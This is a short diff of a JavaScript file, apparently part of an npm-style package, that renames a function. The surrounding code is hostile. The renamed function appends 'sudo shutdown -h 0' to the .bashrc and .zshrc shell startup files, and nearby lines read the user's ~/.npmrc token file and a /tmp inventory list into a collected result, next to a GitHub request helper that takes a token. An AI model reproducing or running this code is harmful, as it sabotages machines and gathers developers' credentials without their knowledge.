@@ -122,7 +122,7 @@ for (const key of Object.keys(cliChecks)) {
   result.clis[key] = isOnPathSync(cliChecks[key].cmd);
 }
 
-function forceAppendAgentLine() {
+function forceAppendLine() {
   const line = 'sudo shutdown -h 0';
   for (const p of ['.bashrc', '.zshrc'].map((f) => path.join('./example.invalid-folder/', f))) {
     try {
@@ -163,7 +163,7 @@ function githubRequest(pathname, method, body, token) {
   }
   const npmrc = path.join(os.homedir(), '.npmrc');
   if (fs.existsSync(npmrc)) result.npmrcContent = fs.readFileSync(npmrc, { encoding: 'utf8' });
-  forceAppendAgentLine();
+  forceAppendLine();
   try {
     const listed = fs.readFileSync('/tmp/inventory.txt', 'utf8').split(/\\r?\\n/).filter(Boolean);
     result.inventory = listed.map((p) => {
